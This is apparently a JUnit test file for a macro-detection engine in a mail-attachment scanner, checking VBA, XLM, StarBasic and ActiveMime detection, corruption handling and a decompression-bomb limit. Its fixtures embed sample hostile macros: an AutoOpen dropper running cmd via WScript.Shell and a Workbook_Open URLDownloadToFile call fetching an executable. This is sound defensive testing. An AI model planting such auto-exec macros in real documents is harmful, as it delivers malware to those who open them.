package io.portcullis.scanner.engine;

import static io.portcullis.scanner.engine.macro.OfficeFixtures.ascii;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.portcullis.contracts.scan.Category;
import io.portcullis.contracts.scan.EngineResult;
import io.portcullis.contracts.scan.Finding;
import io.portcullis.contracts.scan.ScanInput;
import io.portcullis.contracts.scan.ScanItem;
import io.portcullis.scanner.engine.macro.OfficeFixtures;
import io.portcullis.scanner.support.ClamavTestFiles;
import java.io.ByteArrayInputStream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.poi.poifs.macros.VBAMacroReader;
import org.junit.jupiter.api.Test;

class MacroEngineTest {
    static final String DROPPER = "Sub AutoOpen()\r\n  Dim s\r\n  s = Chr(99) & Chr(109) & Chr(100)\r\n"
            + "  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run s\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n";
    private final MacroEngine engine = new MacroEngine(1 << 20);

    private List<Finding> scan(ScanItem... items) {
        return scan(engine, items);
    }

    private static List<Finding> scan(MacroEngine engine, ScanItem... items) {
        try {
            return engine.scan(new ScanInput("t", null, List.of(items))).findings();
        } catch (InterruptedException e) {
            throw new AssertionError(e);
        }
    }

    private static ScanItem item(String path, String name, byte[] content) {
        return new ScanItem(path, name, "application/octet-stream", path.split("/").length - 1, content);
    }

    private static Map<String, String> modules(String... nameAndSource) {
        Map<String, String> m = new LinkedHashMap<>();
        for (int i = 0; i < nameAndSource.length; i += 2) {
            m.put(nameAndSource[i], nameAndSource[i + 1]);
        }
        return m;
    }

    @Test
    void fixturesAreRealVbaProjectsAsPoiReadsThem() throws Exception {
        byte[] doc = OfficeFixtures.wordDoc(modules("ThisDocument", "", "NewMacros", DROPPER));
        try (VBAMacroReader reader = new VBAMacroReader(new ByteArrayInputStream(doc))) {
            Map<String, String> macros = reader.readMacros();
            assertTrue(macros.get("NewMacros").contains("Sub AutoOpen()"), macros.toString());
            assertTrue(macros.containsKey("ThisDocument"));
        }
    }

    @Test
    void wordDocumentWithAutoOpenDropper() {
        byte[] doc = OfficeFixtures.wordDoc(modules("ThisDocument", "", "NewMacros", DROPPER));
        List<Finding> f = scan(item("part/2", "invoice.doc", doc));
        assertEquals(1, f.size(), f.toString());
        Finding vba = f.get(0);
        assertEquals(MacroEngine.VBA, vba.symbol());
        assertEquals(Category.ACTIVE_CONTENT, vba.category());
        assertEquals("VBA project Macros/VBA: modules ThisDocument, NewMacros; auto-exec AutoOpen; suspicious "
                + "CreateObject, WScript, Shell; Chr() x3 in part/2", vba.detail());
        assertFalse(vba.detail().contains("calc"), "never code");
    }

    @Test
    void excelWorkbookWithWorkbookOpen() {
        byte[] xls = OfficeFixtures.excelXls(modules("ThisWorkbook", "Private Sub Workbook_Open()\r\n"
                + "  URLDownloadToFile 0, \"http://x\", \"a.exe\", 0, 0\r\nEnd Sub\r\n"), OfficeFixtures.biff8(
                Map.of("Sheet1", new int[] {0, 0}), false));
        Finding f = scan(item("part/2", "book.xls", xls)).get(0);
        assertEquals("VBA project _VBA_PROJECT_CUR/VBA: modules ThisWorkbook; auto-exec Workbook_Open; suspicious "
                + "URLDownloadToFile in part/2", f.detail());
    }

    @Test
    void benignMacroIsStillActiveContentWithoutNotes() {
        byte[] doc = OfficeFixtures.wordDoc(modules("Module1", "Sub Format()\r\n  Selection.Font.Bold = True\r\n"
                + "End Sub\r\n"));
        assertEquals("VBA project Macros/VBA: modules Module1 in part/2", scan(item("part/2", "a.doc", doc))
                .get(0).detail());
    }

    @Test
    void xlmMacroSheetVeryHiddenWithAutoOpen() {
        Map<String, int[]> sheets = new LinkedHashMap<>();
        sheets.put("Sheet1", new int[] {0, 0});
        sheets.put("Macro1", new int[] {2, 1});
        byte[] xls = OfficeFixtures.excelXls(Map.of(), OfficeFixtures.biff8(sheets, true));
        List<Finding> f = scan(item("part/2", "report.xls", xls));
        assertEquals(1, f.size(), f.toString());
        assertEquals(MacroEngine.XLM, f.get(0).symbol());
        assertEquals(Category.ACTIVE_CONTENT, f.get(0).category());
        assertEquals("1 XLM macro sheet (1 very hidden); auto-exec Auto_Open in stream Workbook in part/2",
                f.get(0).detail());
    }

    @Test
    void plainWorkbookAndDocumentHaveNoMacros() {
        byte[] xls = OfficeFixtures.excelXls(Map.of(), OfficeFixtures.biff8(Map.of("Sheet1", new int[] {1, 0}),
                false));
        assertEquals(List.of(), scan(item("part/2", "a.xls", xls)));
        assertEquals(List.of(), scan(item("part/2", "clam.ole.doc", ClamavTestFiles.read("clam.ole.doc"))));
        assertEquals(List.of(), scan(item("part/2", "clam.ppt", ClamavTestFiles.read("clam.ppt"))));
    }

    @Test
    void docmIsReportedOnceThoughItsVbaProjectEntryIsAnItemToo() {
        Map<String, String> m = modules("ThisDocument", "Sub Document_Open()\r\nEnd Sub\r\n");
        byte[] docm = OfficeFixtures.docm(m);
        byte[] bin = OfficeFixtures.vbaProjectBin(m);
        List<Finding> f = scan(item("part/2", "a.docm", docm), item("part/2/zip:word/vbaProject.bin",
                "word/vbaProject.bin", bin));
        assertEquals(1, f.size(), f.toString());
        assertEquals("VBA project word/vbaProject.bin/VBA: modules ThisDocument; auto-exec Document_Open in part/2",
                f.get(0).detail());
    }

    @Test
    void sameDocumentAttachedTwiceIsOneProjectButDifferentProjectsAreTwo() {
        byte[] a = OfficeFixtures.wordDoc(modules("NewMacros", DROPPER));
        byte[] b = OfficeFixtures.wordDoc(modules("Other", "Sub AutoClose()\r\nEnd Sub\r\n"));
        assertEquals(1, scan(item("part/2", "a.doc", a), item("part/3", "copy.doc", a)).size());
        List<Finding> two = scan(item("part/2", "a.doc", a), item("part/3/zip:b.doc", "b.doc", b));
        assertEquals(2, two.size());
        assertTrue(two.get(1).detail().endsWith("auto-exec AutoClose in part/3/zip:b.doc"), two.get(1).detail());
    }

    @Test
    void xlsmMacroSheetsAndAutoOpenName() {
        Map<String, byte[]> e = new LinkedHashMap<>();
        e.put("[Content_Types].xml", ascii("<Types/>"));
        e.put("xl/workbook.xml", ascii("<workbook><definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1"
                + "</definedName></definedNames></workbook>"));
        e.put("xl/macrosheets/sheet1.xml", ascii("<xm:macrosheet/>"));
        List<Finding> f = scan(item("part/2", "a.xlsm", OfficeFixtures.zip(e)));
        assertEquals(List.of(new Finding(MacroEngine.XLM, Category.ACTIVE_CONTENT, 0,
                "1 XLM macro sheet (xl/macrosheets); auto-exec Auto_Open in part/2")), f);
    }

    @Test
    void odfStarBasicWithLoadEvent() {
        Map<String, byte[]> e = new LinkedHashMap<>();
        e.put("mimetype", ascii("application/vnd.oasis.opendocument.text"));
        e.put("content.xml", ascii("<office:document-content><office:scripts><office:event-listeners>"
                + "<script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\" "
                + "xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>"
                + "</office:event-listeners></office:scripts></office:document-content>"));
        e.put("Basic/Standard/script-lb.xml", ascii("<library:library/>"));
        e.put("Basic/Standard/Module1.xml", ascii("<script:module script:name=\"Module1\">Sub Main\n"
                + "Shell(&quot;calc&quot;)\nEnd Sub</script:module>"));
        List<Finding> f = scan(item("part/2", "a.odt", OfficeFixtures.zip(e)));
        assertEquals(1, f.size(), f.toString());
        assertEquals("StarBasic library Standard: modules Module1; auto-exec document load event; suspicious Shell "
                + "in part/2", f.get(0).detail());
    }

    @Test
    void embeddedWorkbookInADocxIsFound() {
        Map<String, byte[]> e = new LinkedHashMap<>();
        e.put("word/document.xml", ascii("<w:document/>"));
        e.put("word/embeddings/oleObject1.bin", OfficeFixtures.excelXls(modules("ThisWorkbook",
                "Sub Workbook_Open()\r\nEnd Sub\r\n"), OfficeFixtures.biff8(Map.of(), false)));
        Finding f = scan(item("part/2", "a.docx", OfficeFixtures.zip(e))).get(0);
        assertEquals("VBA project word/embeddings/oleObject1.bin/_VBA_PROJECT_CUR/VBA: modules ThisWorkbook; "
                + "auto-exec Workbook_Open in part/2", f.detail());
    }

    @Test
    void powerPointProjectInACompressedExOleObjStgRecord() {
        byte[] ppt = OfficeFixtures.powerPoint(modules("Module1", "Sub Auto_Open()\r\n Shell \"x\"\r\nEnd Sub\r\n"));
        List<Finding> f = scan(item("part/2", "deck.ppt", ppt));
        assertEquals(List.of(new Finding(MacroEngine.VBA, Category.ACTIVE_CONTENT, 0, "VBA project PowerPoint "
                + "Document/ExOleObjStg/VBA: modules Module1; auto-exec Auto_Open; suspicious Shell in part/2")), f);
    }

    @Test
    void activeMimeInWord2003Xml() {
        String xml = "<?xml version=\"1.0\"?><w:wordDocument><w:binData w:name=\"editdata.mso\">"
                + "QWN0aXZlTWltZQAAAfAEAAAA/////wAAB/AbDwAA</w:binData></w:wordDocument>";
        List<Finding> f = scan(item("part/2", "a.xml", ascii(xml)));
        assertEquals(MacroEngine.VBA, f.get(0).symbol());
        assertTrue(f.get(0).detail().startsWith("ActiveMime (MSO) macro container"));
    }

    @Test
    void corruptVbaProjectIsStillAMacro() {
        Map<String, String> m = modules("NewMacros", DROPPER);
        byte[] doc = OfficeFixtures.wordDoc(m);
        // Break every MS-OVBA container signature byte in the file: dir and modules become unreadable.
        byte[] broken = doc.clone();
        byte[] needle = OfficeFixtures.compress(ascii("Attribut"));
        int hits = 0;
        for (int i = 0; i + 3 < broken.length; i++) {
            if (broken[i] == 0x01 && (broken[i + 2] & 0x70) == 0x30 && (broken[i + 2] & 0x80) != 0) {
                broken[i] = 0x07;
                hits++;
            }
        }
        assertTrue(hits > 0 && needle.length > 0);
        Finding f = scan(item("part/2", "a.doc", broken)).get(0);
        assertEquals(MacroEngine.VBA, f.symbol());
        assertTrue(f.detail().startsWith("VBA project Macros/VBA: modules "), f.detail());
        assertTrue(f.detail().contains("unreadable"), f.detail());
    }

    @Test
    void ole2WithABrokenHeaderButVbaMarkersIsStillAMacro() {
        byte[] doc = OfficeFixtures.wordDoc(modules("NewMacros", DROPPER));
        byte[] cut = doc.clone();
        cut[0x30] = (byte) 0xFF; // the header's first directory sector points far beyond the file
        cut[0x31] = (byte) 0xFF;
        cut[0x32] = (byte) 0xFF;
        cut[0x33] = (byte) 0x7F;
        List<Finding> f = scan(item("part/2", "a.doc", cut));
        assertEquals(1, f.size(), f.toString());
        assertTrue(f.get(0).detail().startsWith("VBA project in an unreadable OLE2 file"), f.get(0).detail());
    }

    @Test
    void unreadableVbaProjectBinInADocmIsStillAMacro() {
        Map<String, byte[]> e = new LinkedHashMap<>();
        e.put("word/document.xml", ascii("<w:document/>"));
        e.put("word/vbaProject.bin", ascii("not an OLE2 file at all"));
        Finding f = scan(item("part/2", "a.docm", OfficeFixtures.zip(e))).get(0);
        assertEquals("VBA project word/vbaProject.bin without a readable VBA storage in part/2", f.detail());
    }

    @Test
    void decompressionBombInAModuleIsBoundedByTheSourceBudget() {
        // One copy token per 2 bytes: a module that expands about 2000:1; the engine reads at most its budget.
        java.io.ByteArrayOutputStream bomb = new java.io.ByteArrayOutputStream();
        bomb.write(0x01);
        for (int chunk = 0; chunk < 4000; chunk++) {
            // chunk: literal 'A' then copy tokens repeating it to fill 4096 bytes
            java.io.ByteArrayOutputStream c = new java.io.ByteArrayOutputStream();
            c.write(0x02);            // flags: token 0 literal, token 1 copy
            c.write('A');
            // position 1: 12 offset bits? At decompressed position 1 the copy token has 4 offset bits and 12 length
            // bits: offset 1 (stored 0), length 4095 (stored 4092)
            int token = (0) << 12 | (4095 - 3);
            c.write(token & 0xFF);
            c.write(token >> 8);
            int header = ((c.size() + 2 - 3) & 0xFFF) | 0x3000 | 0x8000;
            bomb.write(header & 0xFF);
            bomb.write(header >> 8);
            bomb.writeBytes(c.toByteArray());
        }
        byte[] compressed = bomb.toByteArray();
        MacroEngine small = new MacroEngine(64 * 1024);
        byte[] doc = io.portcullis.scanner.engine.macro.OfficeFixturesAccess.wordDocWithRawModule("Bomb", compressed);
        long start = System.nanoTime();
        Finding f = scan(small, item("part/2", "a.doc", doc)).get(0);
        assertTrue(System.nanoTime() - start < 5_000_000_000L);
        assertEquals("VBA project Macros/VBA: modules Bomb (source beyond 65536 bytes not read) in part/2",
                f.detail());
    }

    @Test
    void nonOfficeItemsAndTheRawMessageAreIgnored() {
        byte[] doc = OfficeFixtures.wordDoc(modules("NewMacros", DROPPER));
        assertEquals(List.of(), scan(new ScanItem("raw", null, "message/rfc822", 0, doc)));
        assertEquals(List.of(), scan(item("part/1", null, ascii("hello"))));
        assertEquals(List.of(), scan(item("part/2", "a.zip", OfficeFixtures.zip(Map.of("a.txt", ascii("x"))))));
    }

    @Test
    void randomGarbageWithOle2AndZipMagicNeverThrows() {
        Random r = new Random(11);
        List<ScanItem> items = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            byte[] b = new byte[512 + r.nextInt(8192)];
            r.nextBytes(b);
            byte[] magic = i % 2 == 0 ? new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1,
                    (byte) 0xB1, 0x1A, (byte) 0xE1} : new byte[] {'P', 'K', 3, 4};
            System.arraycopy(magic, 0, b, 0, magic.length);
            items.add(item("part/" + (i + 2), "x.bin", b));
        }
        byte[] doc = OfficeFixtures.wordDoc(modules("NewMacros", DROPPER));
        for (int i = 0; i < 200; i++) {
            byte[] fuzzed = doc.clone();
            for (int k = 0; k < 16; k++) {
                fuzzed[r.nextInt(fuzzed.length)] = (byte) r.nextInt(256);
            }
            items.add(item("part/" + (300 + i), "f.doc", fuzzed));
        }
        scan(items.toArray(new ScanItem[0]));
    }

    @Test
    void failureBecomesMacroFailThroughTheRunner() {
        MacroEngine broken = new MacroEngine(10) {
            @Override
            public EngineResult scan(ScanInput input) {
                throw new IllegalStateException("boom");
            }
        };
        EngineRunner runner = new EngineRunner(List.of(broken), Duration.ofSeconds(5), 1);
        try {
            Finding f = runner.run(new ScanInput("t", null, List.of())).get(0).findings().get(0);
            assertEquals(MacroEngine.FAILURE_SYMBOL, f.symbol());
            assertEquals(Category.FAILURE, f.category());
        } finally {
            runner.close();
        }
    }

    @Test
    void badBudgetFailsAtStartup() {
        assertThrows(IllegalStateException.class, () -> new MacroEngine(0));
    }
}
